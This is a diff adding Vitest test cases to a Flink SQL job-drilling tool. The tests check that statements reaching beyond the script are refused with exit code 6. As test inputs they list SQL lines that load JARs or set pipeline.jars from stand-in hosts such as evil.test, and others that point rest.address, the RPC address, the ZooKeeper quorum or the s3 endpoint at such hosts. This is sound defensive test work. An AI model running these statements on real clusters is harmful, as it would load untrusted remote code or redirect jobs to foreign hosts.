@@ -4,6 +4,7 @@ import { describe, expect, it } from 'vitest'
 import { ORDERS_ENRICH, SALES_PIPELINE } from '../../../sandbox/jobs.js'
 import { drillScript } from '../../../src/lib/flink/drill-script.js'
 import { checkSources } from '../../../src/lib/flink/drill-sources.js'
+import type { DrillOrigin } from '../../../src/lib/flink/drill-statements.js'
 import { splitScript } from '../../../src/lib/flink/script.js'
 import { jobsOf } from '../../../src/lib/flink/script-jobs.js'
 
@@ -20,9 +21,12 @@ function captured(act: () => unknown): unknown {
   }
 }
 
-function drilled(script: string) {
+/** As a script that this job is not known to have been started from, on a cluster that keeps catalogs in memory. */
+const UNKNOWN: DrillOrigin = { isOwnScript: false, catalogStore: null }
+
+function drilled(script: string, origin = UNKNOWN) {
   const [job] = jobsOf(splitScript(script))
-  return drillScript(job?.statements ?? [], 'sales')
+  return drillScript(job?.statements ?? [], 'sales', origin)
 }
 
 /** What became of each statement that is not as it was. */
@@ -124,6 +128,87 @@ describe('what is refused before anything is started: exit 6', () => {
     ['batch mode', `SET 'execution.runtime-mode' = 'batch'; ${SRC} ${OUT} ${INSERT}`, 'batch mode'],
   ])('%s', (_, script, why) => {
     expect(captured(() => drilled(script))).toMatchObject({ code: 'NOT_DRILLABLE', exitCode: 6, message: expect.stringContaining(why) })
+  })
+})
+
+describe('what reaches beyond the script', () => {
+  const whole = (statement: string) => `${statement}; ${SRC} ${OUT} ${INSERT}`
+  const OWN: DrillOrigin = { isOwnScript: true, catalogStore: null }
+  const refusal = (statement: string, origin = UNKNOWN) => captured(() => drilled(whole(statement), origin))
+  const refused = (what: string) => ({ code: 'NOT_DRILLABLE', exitCode: 6, message: expect.stringMatching(new RegExp(`${what}.*line 1`)) })
+
+  const FROM_ELSEWHERE: [string, string][] = [
+    ["ADD JAR 'https://evil.test/x.jar'", 'ADD JAR from elsewhere'],
+    ["add /* */ jar\n'HTTP://evil.test/x.jar'", 'ADD JAR from elsewhere'],
+    ["ADD JAR 'ftp://evil.test/x.jar'", 'ADD JAR from elsewhere'],
+    ["ADD JAR 'wasbs://c@evil.blob.core.windows.net/x.jar'", 'ADD JAR from elsewhere'],
+    ["ADD JAR ' hdfs:///x.jar'", 'ADD JAR from elsewhere'],
+    ["ADD JAR '//evil.test/x.jar'", 'ADD JAR from elsewhere'],
+    ["ADD JAR 'file://evil.test/x.jar'", 'ADD JAR from elsewhere'],
+    ["CREATE FUNCTION f AS 'a.F' USING JAR 'http://evil.test/x.jar'", 'CREATE FUNCTION ... USING JAR from elsewhere'],
+    ["CREATE TEMPORARY FUNCTION f AS 'a.F' LANGUAGE JAVA USING JAR '/a.jar', JAR 's3://b/x.jar'", 'CREATE FUNCTION'],
+    ["CREATE TEMPORARY SYSTEM FUNCTION f AS 'a.F' USING JAR 'https://evil.test/x.jar'", 'CREATE FUNCTION'],
+    ["SET 'pipeline.jars' = 'https://evil.test/x.jar'", 'SET of pipeline.jars'],
+    ["SET 'pipeline.classpaths' = 'https://evil.test/'", 'SET of pipeline.classpaths'],
+    ["SET 'python.client.executable' = '/tmp/x'", 'SET of python.client.executable'],
+  ]
+  it.each(FROM_ELSEWHERE)('%s brings code, and is refused by name, without its address: exit 6', (statement, what) => {
+    const error = refusal(statement)
+    expect(error).toMatchObject(refused(what))
+    expect(String(error)).not.toContain('evil')
+  })
+
+  it.each(FROM_ELSEWHERE)('%s is drilled where the job itself was started from this very script', (statement) => {
+    expect(drilled(whole(statement), OWN).sinks).toHaveLength(1)
+  })
+
+  it.each([
+    "ADD JAR '/opt/jars/x.jar'",
+    "ADD JAR 'file:///opt/jars/x.jar'",
+    "ADD JAR 'file:/opt/jars/x.jar'",
+    "ADD JAR 'jars/x.jar'",
+    "CREATE FUNCTION f AS 'a.F'",
+    "CREATE TEMPORARY SYSTEM FUNCTION f AS 'https://evil.test' USING JAR '/opt/x.jar'",
+    "SET 'parallelism.default' = '2'",
+    'SET execution.checkpointing.interval = 10s',
+    "SET 'execution.checkpointing.dir' = 'wasbs://c@a.blob.core.windows.net/x'",
+    "SET 'table.exec.state.ttl' = 'rest.address'",
+    "CREATE CATALOG lake WITH ('type' = 'paimon', 'warehouse' = 'abfss://wh@a.dfs.core.windows.net/')",
+    "RESET 'rest.address'",
+    'SET',
+    'USE MODULES core',
+  ])('%s is drilled', (statement) => {
+    expect(drilled(whole(statement)).sinks).toHaveLength(1)
+  })
+
+  it.each([
+    ['LOAD MODULE hive', 'LOAD MODULE'],
+    ["LOAD MODULE x WITH ('a' = 'b')", 'LOAD MODULE'],
+    ["SET 'rest.address' = 'evil.test'", 'SET of rest.address'],
+    ['SET rest.port = 8081', 'SET of rest.port'],
+    ["SET /* x */ 'rest.address' /* y */ = 'evil.test'", 'SET of rest.address'],
+    ["set 'execution.target' = 'kubernetes-session'", 'SET of execution.target'],
+    ["SET 'execution.attached' = 'true'", 'SET of execution.attached'],
+    ["SET 'jobmanager.rpc.address' = 'evil.test'", 'SET of jobmanager.rpc.address'],
+    ["SET 'kubernetes.cluster-id' = 'other'", 'SET of kubernetes.cluster-id'],
+    ["SET 'yarn.application.id' = 'other'", 'SET of yarn.application.id'],
+    ["SET 'high-availability' = 'zookeeper'", 'SET of high-availability'],
+    ["SET 'high-availability.zookeeper.quorum' = 'evil.test'", 'SET of high-availability.zookeeper.quorum'],
+    ["SET 'fs.azure.account.key' = 'x'", 'SET of fs.azure.account.key'],
+    ["SET 's3.endpoint' = 'evil.test'", 'SET of s3.endpoint'],
+    ["SET '$internal.pipeline.job-id' = 'x'", 'SET of \\$internal.pipeline.job-id'],
+    ["SET 'table.catalog-store.kind' = 'file'", 'SET of table.catalog-store.kind'],
+    ["SET = 'x'", 'SET that cannot be read'],
+  ])('%s is refused whoever has it: exit 6', (statement, what) => {
+    expect(refusal(statement, OWN)).toMatchObject(refused(what))
+  })
+
+  it('a catalog is refused where the cluster keeps them for others: exit 6', () => {
+    const statement = "CREATE CATALOG IF NOT EXISTS lake WITH ('type' = 'paimon')"
+    expect(refusal(statement, { isOwnScript: true, catalogStore: 'file' })).toMatchObject(
+      refused('CREATE CATALOG, which lasts here .*file'),
+    )
+    expect(drilled(whole(statement), { isOwnScript: false, catalogStore: 'generic_in_memory' }).sinks).toHaveLength(1)
   })
 })
 
